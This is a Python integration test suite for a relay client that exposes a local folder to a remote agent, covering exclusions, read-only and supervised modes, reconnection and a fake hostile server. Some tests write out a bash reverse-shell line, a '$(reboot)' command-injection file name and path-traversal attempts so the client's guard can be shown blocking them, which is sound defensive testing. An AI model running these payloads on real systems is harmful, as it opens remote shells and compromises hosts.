"""`coffer connect` end to end (docs/relay-protocol.md, the client half): a real cofferd,
a real `coffer connect` process serving a temp folder, and the agent side's ops call.
Also the client alone against a tiny fake server (FakeServer below) that sends what a
compromised cofferd could, to show the client enforces its own rules; supervised mode
through a pseudo-terminal; a network drop through a TCP proxy; signals.

Each test makes its own agent, session and folder."""

import http.server
import json
import os
import pty
import select
import shutil
import signal
import socket
import subprocess
import tempfile
import threading
import time

import harness
from harness import check, contains, eq, expect, expect_error
from relay_fake import create, make_agent

_n = [0]


def _name(prefix="rc"):
    _n[0] += 1
    return "%s-%d-%d" % (prefix, os.getpid(), _n[0])


def _folder(files=None):
    root = tempfile.mkdtemp(prefix="relay-client-")
    for p, data in (files or {}).items():
        full = os.path.join(root, p)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())
    return root


def _read(root, p):
    with open(os.path.join(root, p), "rb") as f:
        return f.read()


_wait = harness.until


class Client:
    """A `coffer connect` process; its stderr (the log) goes to a file."""

    def __init__(self, url, uid, token, root, args=(), env_token=True, tty=False):
        self.root = root
        fd, self.log_path = tempfile.mkstemp(prefix="connect-", suffix=".log")
        os.close(fd)
        cmd = [harness.bin_path("coffer"), "connect", "--server", url, "--uid", uid,
               "--dir", root] + list(args)
        env = dict(os.environ)
        env.pop("COFFER_CONNECT_TOKEN", None)
        if env_token:
            env["COFFER_CONNECT_TOKEN"] = token
        else:
            cmd += ["--token", token]
        self.master = None
        if tty:
            # The client gets a pseudo-terminal as its controlling terminal
            # (/dev/tty); its stderr still goes to the log file.
            pid, master = pty.fork()
            if pid == 0:
                logfd = os.open(self.log_path, os.O_WRONLY | os.O_APPEND)
                os.dup2(logfd, 2)
                os.execve(cmd[0], cmd, env)
            self.pid, self.master, self.proc = pid, master, None
            self.tty_out = b""
        else:
            self.logf = open(self.log_path, "wb")
            # A new session: no controlling terminal, so /dev/tty cannot be opened.
            self.proc = subprocess.Popen(cmd, stdin=subprocess.DEVNULL,
                                         stdout=subprocess.DEVNULL, stderr=self.logf,
                                         env=env, start_new_session=True)
            self.pid = self.proc.pid

    def log(self):
        with open(self.log_path, "rb") as f:
            return f.read().decode("utf-8", "replace")

    def wait_log(self, text, timeout=15):
        return _wait(lambda: text in self.log(), "%r in the client's log:\n%s" % (
            text, self.log()), timeout)

    def check_sanitizers(self):
        """Sanitizer reports in the client's stderr fail the test (ASan builds)."""
        log = self.log()
        if harness.SANITIZER_PATTERNS.search(log):
            raise AssertionError("sanitizer report from coffer connect:\n" + log[-4000:])

    def signal(self, sig):
        os.kill(self.pid, sig)

    def wait(self, timeout=20):
        """The exit code."""
        deadline = time.time() + timeout * harness.SCALE
        while time.time() < deadline:
            if self.proc is not None:
                if self.proc.poll() is not None:
                    self.check_sanitizers()
                    return self.proc.returncode
            else:
                pid, status = os.waitpid(self.pid, os.WNOHANG)
                if pid:
                    self.proc = subprocess.CompletedProcess([], os.waitstatus_to_exitcode(
                        status))
                    self.proc.poll = lambda: self.proc.returncode
                    self.check_sanitizers()
                    return self.proc.returncode
            self.pump_tty(0.05)
        raise AssertionError("coffer connect did not exit; log:\n" + self.log())

    def pump_tty(self, wait):
        if self.master is None:
            time.sleep(wait)
            return
        r, _, _ = select.select([self.master], [], [], wait)
        if r:
            try:
                self.tty_out += os.read(self.master, 65536)
            except OSError:
                pass

    def wait_tty(self, text, timeout=15):
        deadline = time.time() + timeout * harness.SCALE
        while text.encode() not in self.tty_out:
            if time.time() > deadline:
                raise AssertionError("%r not on the terminal; got %r" % (text, self.tty_out))
            self.pump_tty(0.1)

    def type(self, text):
        os.write(self.master, text.encode())

    def stop(self):
        try:
            if self.proc is None or self.proc.poll() is None:
                os.kill(self.pid, signal.SIGKILL)
                self.wait(10)
        except (ProcessLookupError, ChildProcessError):
            pass
        if self.master is not None:
            os.close(self.master)
            self.master = None
        self.check_sanitizers()
        os.unlink(self.log_path)
        shutil.rmtree(self.root, ignore_errors=True)


def _session(srv, files=None, args=(), url=None, **kw):
    """A session of a fresh agent and a `coffer connect` serving a fresh folder,
    attached. Returns (uid, token, client, root)."""
    agent = make_agent(srv, _name())
    s = create(srv, agent)
    root = _folder(files)
    c = Client(url or srv.url, s["uid"], s["connectToken"], root, args, **kw)
    _wait(lambda: srv.get("/v1/relay/sessions/" + s["uid"]).json()["status"] == "active",
          "the session to become active; client log:\n" + c.log())
    return s["uid"], s["connectToken"], c, root


def _op(srv, uid, **body):
    return srv.post("/v1/relay/sessions/%s/ops" % uid, json=body)


def _status(srv, uid):
    return expect(srv.get("/v1/relay/sessions/" + uid), 200).json()["status"]


# ------------------------------------------------------------------ ops through the relay

def test_read_write_list_search(srv):
    uid, _, c, root = _session(srv, {"src/main.c": "int main(void) { return 0; }\n",
                                     "README.md": "hello relay\n"})
    try:
        got = expect(_op(srv, uid, op="read_file", path="src/main.c"), 200).json()
        eq((got["content"], got["encoding"], got["size"]),
           ("int main(void) { return 0; }\n", "utf-8", 29), "read")
        got = expect(_op(srv, uid, op="write_file", path="out/new.txt", content="new\n"),
                     200).json()
        eq((got["path"], got["size"]), ("out/new.txt", 4), "write answer")
        eq(got["sha256"], harness.sha256(b"new\n"), "sha256")
        eq(_read(root, "out/new.txt"), b"new\n", "file on disk")
        got = expect(_op(srv, uid, op="write_file", path="b.bin", content="AAEC/w==",
                         encoding="base64"), 200).json()
        eq(_read(root, "b.bin"), b"\x00\x01\x02\xff", "binary write")
        got = expect(_op(srv, uid, op="read_file", path="b.bin"), 200).json()
        eq((got["encoding"], got["content"]), ("base64", "AAEC/w=="), "binary read")
        got = expect(_op(srv, uid, op="list_directory"), 200).json()
        eq([(e["name"], e["type"]) for e in got["entries"]],
           [("README.md", "file"), ("b.bin", "file"), ("out", "dir"),
            ("src", "dir")], "listing")
        got = expect(_op(srv, uid, op="search_files", pattern=r"\bmain\b"), 200).json()
        eq(got, {"results": [{"file": "src/main.c", "line": 1,
                              "content": "int main(void) { return 0; }"}],
                 "truncated": False}, "search")
        got = expect(_op(srv, uid, op="search_files", pattern="e", glob="*.md"), 200).json()
        eq([r["file"] for r in got["results"]], ["README.md"], "search with glob")
        expect_error(_op(srv, uid, op="read_file", path="nope.txt"), 404, "not_found")
        log = c.log()
        contains(log, "read  src/main.c  29 B", "log line of the read")
        contains(log, "write  out/new.txt  4 B", "log line of the write")
    finally:
        c.stop()


def test_symlink_to_outside_refused(srv):
    outside = _folder({"secret.txt": "outside\n"})
    uid, _, c, root = _session(srv, {"a.txt": "a\n"})
    try:
        os.symlink(os.path.join(outside, "secret.txt"), os.path.join(root, "link.txt"))
        os.symlink(outside, os.path.join(root, "ext"))
        expect_error(_op(srv, uid, op="read_file", path="link.txt"), 403, "forbidden")
        expect_error(_op(srv, uid, op="read_file", path="ext/secret.txt"), 403, "forbidden")
        # a write through a link tries to leave the folder: the guard's block
        # (seed 004), 422 like any blocked write
        expect_error(_op(srv, uid, op="write_file", path="ext/x.txt", content="x"), 422,
                     "blocked")
        expect_error(_op(srv, uid, op="write_file", path="link.txt", content="x"), 422,
                     "blocked")
        c.wait_log("write blocked  ext/x.txt  path-symlink")
        eq(sorted(os.listdir(outside)), ["secret.txt"], "nothing made outside")
        eq(_read(outside, "secret.txt"), b"outside\n", "outside file unchanged")
        got = expect(_op(srv, uid, op="list_directory"), 200).json()
        eq({e["name"]: e["type"] for e in got["entries"]},
           {"a.txt": "file", "ext": "symlink", "link.txt": "symlink"}, "symlinks listed")
    finally:
        c.stop()


# ------------------------------------------------------------------ exclusions, modes

def test_excluded_hidden_and_refused(srv):
    uid, _, c, root = _session(srv, {".env": "TOKEN=needle\n", "app.log": "needle\n",
                                     "keys/id_rsa": "needle\n", "a.txt": "needle\n"},
                               args=["--exclude", "*.log"])
    try:
        got = expect(_op(srv, uid, op="list_directory"), 200).json()
        eq([e["name"] for e in got["entries"]], ["a.txt", "keys"], "listing")
        got = expect(_op(srv, uid, op="list_directory", path="keys"), 200).json()
        eq(got["entries"], [], "id_rsa hidden")
        got = expect(_op(srv, uid, op="search_files", pattern="needle"), 200).json()
        eq([r["file"] for r in got["results"]], ["a.txt"], "search")
        expect_error(_op(srv, uid, op="read_file", path=".env"), 403, "forbidden")
        expect_error(_op(srv, uid, op="read_file", path="app.log"), 403, "forbidden")
        expect_error(_op(srv, uid, op="write_file", path="new.log", content="x"), 403,
                     "forbidden")
        check(not os.path.exists(os.path.join(root, "new.log")), "no new.log")
    finally:
        c.stop()


def test_readonly_refuses_writes(srv):
    uid, _, c, root = _session(srv, {"a.txt": "a\n"}, args=["--readonly"])
    try:
        eq(expect(srv.get("/v1/relay/sessions/" + uid), 200).json()["mode"], "readonly",
           "the user's mode")
        expect_error(_op(srv, uid, op="write_file", path="b.txt", content="x"), 403,
                     "forbidden")
        check(not os.path.exists(os.path.join(root, "b.txt")), "nothing written")
        expect(_op(srv, uid, op="read_file", path="a.txt"), 200)
    finally:
        c.stop()


def test_no_mode_flag_takes_the_agents_suggestion(srv):
    """API.md: without a mode flag the session runs in the agent's defaultMode, and
    the client says so before serving. Before the fix the client always sent
    standard, granting writes nobody chose."""
    agent = make_agent(srv, _name(), mode="readonly")
    s = create(srv, agent)
    root = _folder({"a.txt": "a\n"})
    c = Client(srv.url, s["uid"], s["connectToken"], root)
    try:
        _wait(lambda: srv.get("/v1/relay/sessions/" + s["uid"]).json()["status"] ==
              "active", "the session to become active; client log:\n" + c.log())
        c.wait_log("mode: readonly (suggested by the agent; --standard to change)")
        eq(expect(srv.get("/v1/relay/sessions/" + s["uid"]), 200).json()["mode"],
           "readonly", "the session's mode")
        expect_error(_op(srv, s["uid"], op="write_file", path="b.txt", content="x"), 403,
                     "forbidden")
        check(not os.path.exists(os.path.join(root, "b.txt")), "nothing written")
        expect(_op(srv, s["uid"], op="read_file", path="a.txt"), 200)
    finally:
        c.stop()


def test_a_mode_flag_wins_over_the_suggestion(srv):
    agent = make_agent(srv, _name(), mode="readonly")
    s = create(srv, agent)
    root = _folder({})
    c = Client(srv.url, s["uid"], s["connectToken"], root, args=["--standard"])
    try:
        _wait(lambda: srv.get("/v1/relay/sessions/" + s["uid"]).json()["status"] ==
              "active", "the session to become active; client log:\n" + c.log())
        c.wait_log("(standard mode)")
        expect(_op(srv, s["uid"], op="write_file", path="b.txt", content="x"), 200)
        eq(_read(root, "b.txt"), b"x", "written")
        check("suggested by the agent" not in c.log(), "no suggestion taken")
    finally:
        c.stop()


def test_supervised_with_terminal_yes_and_no(srv):
    uid, _, c, root = _session(srv, {"notes.txt": "one\ntwo\nthree\n"},
                               args=["--supervised"], tty=True)
    try:
        out = {}
        t = threading.Thread(target=lambda: out.update(r=_op(
            srv, uid, op="write_file", path="notes.txt", content="one\nTWO\nthree\n")))
        t.start()
        c.wait_tty("allow this write? [y/N]")
        contains(c.tty_out.decode(), "-two", "diff shows the old line")
        contains(c.tty_out.decode(), "+TWO", "diff shows the new line")
        c.type("y\n")
        t.join(30 * harness.SCALE)
        expect(out["r"], 200)
        eq(_read(root, "notes.txt"), b"one\nTWO\nthree\n", "written after yes")
        c.tty_out = b""
        t = threading.Thread(target=lambda: out.update(r=_op(
            srv, uid, op="write_file", path="notes.txt", content="gone\n")))
        t.start()
        c.wait_tty("allow this write? [y/N]")
        c.type("n\n")
        t.join(30 * harness.SCALE)
        expect_error(out["r"], 403, "forbidden")
        contains(out["r"].error["message"], "refused", "says the user refused")
        eq(_read(root, "notes.txt"), b"one\nTWO\nthree\n", "unchanged after no")
        # A binary file: the size change instead of a diff.
        c.tty_out = b""
        t = threading.Thread(target=lambda: out.update(r=_op(
            srv, uid, op="write_file", path="img.bin", content="AAEC/w==", encoding="base64")))
        t.start()
        c.wait_tty("allow this write? [y/N]")
        contains(c.tty_out.decode(), "new binary file: 4", "the size shown")
        c.type("y\n")
        t.join(30 * harness.SCALE)
        expect(out["r"], 200)
        eq(_read(root, "img.bin"), b"\x00\x01\x02\xff", "binary written after yes")
    finally:
        c.stop()


def test_supervised_without_terminal_refused(srv):
    uid, _, c, root = _session(srv, {}, args=["--supervised"])
    try:
        c.wait_log("without a terminal")
        expect_error(_op(srv, uid, op="write_file", path="a.txt", content="x"), 403,
                     "forbidden")
        check(not os.path.exists(os.path.join(root, "a.txt")), "nothing written")
    finally:
        c.stop()


# ------------------------------------------------------------------ the client alone

class FakeServer:
    """A cofferd stand-in with no rule of its own: whatever ops a test queues are sent
    on the connect stream; results and client events are recorded."""

    def __init__(self):
        self.ops = []          # queued, not sent yet
        self.results = {}      # opId -> body
        self.events = []       # client events
        self.connects = []     # connect bodies
        self.lock = threading.Condition()
        fake = self

        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a):
                pass

            def do_POST(self):
                n = int(self.headers.get("Content-Length") or 0)
                body = json.loads(self.rfile.read(n) or b"{}")
                auth = self.headers.get("Authorization")
                if auth != "Bearer good-token":
                    return self._json(401, {"error": {"type": "unauthorized",
                                                      "message": "wrong connect token"}})
                if self.path.endswith("/connect"):
                    fake.connects.append(body)
                    return self._stream(body)
                if "/results/" in self.path:
                    with fake.lock:
                        fake.results[self.path.rsplit("/", 1)[1]] = body
                        fake.lock.notify_all()
                    return self._json(204, None)
                if self.path.endswith("/events"):
                    with fake.lock:
                        fake.events.append(body)
                        fake.lock.notify_all()
                    return self._json(204, None)
                self._json(404, {"error": {"type": "not_found", "message": "no"}})

            def _json(self, status, obj):
                data = json.dumps(obj).encode() if obj is not None else b""
                self.send_response(status)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def _stream(self, body):
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                self.wfile.write(b": connected\n\n")
                # as cofferd: the mode in force first (the user's, else a suggestion)
                self.wfile.write(("event: mode\ndata: %s\n\n" % json.dumps({
                    "mode": body.get("mode") or "standard", "defaultMode": "standard",
                    "chosenBy": "user" if body.get("mode") else "agent"})).encode())
                self.wfile.flush()
                while True:
                    with fake.lock:
                        while not fake.ops:
                            fake.lock.wait(1)
                            self.wfile.write(b": ping\n\n")
                            self.wfile.flush()
                        kind, data = fake.ops.pop(0)
                    self.wfile.write(("event: %s\ndata: %s\n\n" % (kind, json.dumps(data)))
                                     .encode())
                    self.wfile.flush()
                    if kind == "session_ended":
                        return

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.httpd.daemon_threads = True
        self.url = "http://127.0.0.1:%d" % self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def send(self, op):
        """Queues an op and waits for its result."""
        with self.lock:
            self.ops.append(("op", op))
            self.lock.notify_all()
            deadline = time.time() + 20 * harness.SCALE
            while op["id"] not in self.results:
                check(time.time() < deadline, "no result for op %s" % op["id"])
                self.lock.wait(0.2)
            return self.results[op["id"]]

    def end(self):
        with self.lock:
            self.ops.append(("session_ended", {"reason": "closed"}))
            self.lock.notify_all()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def _refused(res, type_):
    eq(res.get("ok"), False, "refused: %r" % res)
    eq(res["error"]["type"], type_, "error type of %r" % res)
    return res["error"]


def test_client_refuses_excluded_even_if_server_asks():
    fake = FakeServer()
    root = _folder({".env": "SECRET=1\n", "id_ed25519": "key\n", "a.txt": "a\n"})
    c = Client(fake.url, "u1", "good-token", root, ["--exclude", "private/"])
    try:
        _refused(fake.send({"id": "1", "op": "read_file", "path": ".env"}), "forbidden")
        _refused(fake.send({"id": "2", "op": "read_file", "path": "id_ed25519"}), "forbidden")
        _refused(fake.send({"id": "3", "op": "write_file", "path": ".env",
                            "content": "SECRET=stolen\n"}), "forbidden")
        _refused(fake.send({"id": "4", "op": "write_file", "path": "private/a.txt",
                            "content": "x"}), "forbidden")
        got = fake.send({"id": "5", "op": "list_directory"})
        eq([e["name"] for e in got["result"]["entries"]], ["a.txt"], "listing")
        got = fake.send({"id": "6", "op": "search_files", "pattern": "SECRET|key"})
        eq(got["result"]["results"], [], "search")
        eq(_read(root, ".env"), b"SECRET=1\n", ".env unchanged")
        check(not os.path.exists(os.path.join(root, "private")), "no private/")
        eq(fake.connects[0]["exclusions"], ["private/"], "the user's patterns sent")
        check("mode" not in fake.connects[0], "no mode sent without a flag (the agent's "
              "defaultMode applies): %r" % fake.connects[0])
        fake.end()
        eq(c.wait(), 0, "exit code after session_ended")
        contains(c.log(), "session ended (closed)", "said so")
    finally:
        c.stop()
        fake.close()


def test_client_guard_blocks_reverse_shell_even_if_server_asks():
    fake = FakeServer()
    root = _folder({})
    c = Client(fake.url, "u1", "good-token", root)
    try:
        err = _refused(fake.send({"id": "1", "op": "write_file", "path": "x.sh",
                                  "content": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"}),
                       "blocked")
        check(err.get("rule"), "the rule is named: %r" % err)
        check(not os.path.exists(os.path.join(root, "x.sh")), "nothing written")
        _wait(lambda: fake.events, "the write_blocked event")
        ev = fake.events[0]
        eq((ev["type"], ev["data"]["path"], ev["data"]["rule"]),
           ("write_blocked", "x.sh", err["rule"]), "client event")
        c.wait_log("write blocked  x.sh  " + err["rule"])
    finally:
        c.stop()
        fake.close()


def test_client_refuses_escapes_even_if_server_asks():
    fake = FakeServer()
    outside = _folder({"secret.txt": "outside\n"})
    root = _folder({})
    os.symlink(outside, os.path.join(root, "ext"))
    c = Client(fake.url, "u1", "good-token", root)
    try:
        _refused(fake.send({"id": "1", "op": "read_file", "path": "../" +
                            os.path.basename(outside) + "/secret.txt"}), "validation_error")
        _refused(fake.send({"id": "2", "op": "read_file",
                            "path": os.path.join(outside, "secret.txt")}), "validation_error")
        _refused(fake.send({"id": "3", "op": "write_file", "path": "ext/pwn.txt",
                            "content": "x"}), "blocked")  # through a link: the guard's
        _refused(fake.send({"id": "4", "op": "write_file", "path": "$(reboot).txt",
                            "content": "x"}), "blocked")
        _refused(fake.send({"id": "5", "op": "write_file", "path": "a\u0000b",
                            "content": "x"}), "validation_error")
        _refused(fake.send({"id": "6", "op": "write_file", "path": "big.bin",
                            "content": "A" * (10 * 1048576 + 1)}), "too_large")
        eq(sorted(os.listdir(outside)), ["secret.txt"], "nothing made outside")
        eq(sorted(os.listdir(root)), ["ext"], "nothing made inside")
    finally:
        c.stop()
        fake.close()


def test_client_readonly_even_if_server_asks():
    fake = FakeServer()
    root = _folder({})
    c = Client(fake.url, "u1", "good-token", root, ["--readonly"])
    try:
        _refused(fake.send({"id": "1", "op": "write_file", "path": "a.txt", "content": "x"}),
                 "forbidden")
        check(not os.path.exists(os.path.join(root, "a.txt")), "nothing written")
        eq(fake.connects[0]["mode"], "readonly", "mode sent")
    finally:
        c.stop()
        fake.close()


def test_size_limit_edge_from_fake_server():
    fake = FakeServer()
    root = _folder({})
    c = Client(fake.url, "u1", "good-token", root)
    try:
        got = fake.send({"id": "1", "op": "write_file", "path": "ten.bin",
                         "content": "A" * (10 * 1048576)})
        eq(got["ok"], True, "exactly 10 MB is written")
        eq(os.path.getsize(os.path.join(root, "ten.bin")), 10 * 1048576, "size on disk")
        got = fake.send({"id": "2", "op": "read_file", "path": "ten.bin"})
        eq(got["result"]["size"], 10 * 1048576, "and read")
        with open(os.path.join(root, "ten.bin"), "ab") as f:
            f.write(b"A")
        _refused(fake.send({"id": "3", "op": "read_file", "path": "ten.bin"}), "too_large")
    finally:
        c.stop()
        fake.close()


# ------------------------------------------------------------------ tokens, clients, life cycle

def test_wrong_token_exits_1(srv):
    agent = make_agent(srv, _name())
    s = create(srv, agent)
    c = Client(srv.url, s["uid"], "rct_wrong", _folder(), env_token=False)
    eq(c.wait(), 1, "exit code")
    contains(c.log(), "token was refused", "message")
    eq(_status(srv, s["uid"]), "waiting", "not attached")


def test_token_on_command_line(srv):
    agent = make_agent(srv, _name())
    s = create(srv, agent)
    c = Client(srv.url, s["uid"], s["connectToken"], _folder({"a": "a"}), env_token=False)
    try:
        _wait(lambda: _status(srv, s["uid"]) == "active", "active")
        expect(_op(srv, s["uid"], op="read_file", path="a"), 200)
    finally:
        c.stop()


def test_second_client_same_uid_exits_1(srv):
    uid, token, c1, root = _session(srv, {"a.txt": "a"})
    try:
        c2 = Client(srv.url, uid, token, _folder())
        eq(c2.wait(), 1, "second client's exit code")
        contains(c2.log(), "another client", "message")
        expect(_op(srv, uid, op="read_file", path="a.txt"), 200)
    finally:
        c1.stop()


def test_unreachable_server_exits_1():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    c = Client("http://127.0.0.1:%d" % port, "u1", "t", _folder())
    eq(c.wait(), 1, "exit code")
    contains(c.log(), "cannot reach cofferd", "message")


def test_ctrl_c_aborts_session_then_ops_410(srv):
    uid, token, c, root = _session(srv, {"a.txt": "a"})
    c.signal(signal.SIGINT)
    eq(c.wait(), 0, "exit code")
    contains(c.log(), "you ended the session", "message")
    got = expect(srv.get("/v1/relay/sessions/" + uid), 200).json()
    eq((got["status"], got.get("endReason")), ("ended", "aborted"), "session")
    expect_error(_op(srv, uid, op="read_file", path="a.txt"), 410, "gone")
    c2 = Client(srv.url, uid, token, root)
    eq(c2.wait(), 1, "connecting to an ended session")
    contains(c2.log(), "has ended", "message")


def test_sigterm_only_disconnects_and_resumes(srv):
    uid, token, c, root = _session(srv, {"a.txt": "a"})
    c.signal(signal.SIGTERM)
    eq(c.wait(), 0, "exit code")
    _wait(lambda: _status(srv, uid) == "paused", "paused")
    c2 = Client(srv.url, uid, token, root)
    try:
        _wait(lambda: _status(srv, uid) == "active", "active again")
        expect(_op(srv, uid, op="read_file", path="a.txt"), 200)
    finally:
        c2.stop()


def test_session_closed_by_agent_exits_0(srv):
    uid, _, c, _ = _session(srv, {})
    expect(srv.delete("/v1/relay/sessions/" + uid), 200, 204)
    eq(c.wait(), 0, "exit code")
    contains(c.log(), "session ended", "message")


class Proxy:
    """A TCP forwarder to cofferd whose connections can be cut (a network drop)."""

    def __init__(self, host, port):
        self.target = (host, port)
        self.lsock = socket.socket()
        self.lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.lsock.bind(("127.0.0.1", 0))
        self.lsock.listen(16)
        self.url = "http://127.0.0.1:%d" % self.lsock.getsockname()[1]
        self.socks = []
        self.lock = threading.Lock()
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                a, _ = self.lsock.accept()
            except OSError:
                return
            b = socket.create_connection(self.target)
            with self.lock:
                self.socks += [a, b]
            threading.Thread(target=self._pump, args=(a, b), daemon=True).start()
            threading.Thread(target=self._pump, args=(b, a), daemon=True).start()

    @staticmethod
    def _pump(src, dst):
        try:
            while True:
                d = src.recv(65536)
                if not d:
                    break
                dst.sendall(d)
        except OSError:
            pass
        for s in (src, dst):
            try:
                s.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def cut(self):
        with self.lock:
            socks, self.socks = self.socks, []
        for s in socks:
            try:
                s.shutdown(socket.SHUT_RDWR)
                s.close()
            except OSError:
                pass

    def close(self):
        self.lsock.close()
        self.cut()


@harness.timeout(90)
def test_network_drop_reconnects_and_resumes(srv):
    proxy = Proxy(srv.host, srv.port)
    uid, _, c, root = _session(srv, {"a.txt": "before\n"}, url=proxy.url)
    try:
        expect(_op(srv, uid, op="read_file", path="a.txt"), 200)
        proxy.cut()
        c.wait_log("connection lost")
        c.wait_log("reconnected", timeout=45)
        _wait(lambda: _status(srv, uid) == "active", "active again")
        got = expect(_op(srv, uid, op="write_file", path="a.txt", content="after\n"),
                     200).json()
        eq(got["size"], 6, "write after the drop")
        eq(_read(root, "a.txt"), b"after\n", "written")
        check(c.proc.poll() is None, "the client still runs")
    finally:
        c.stop()
        proxy.close()
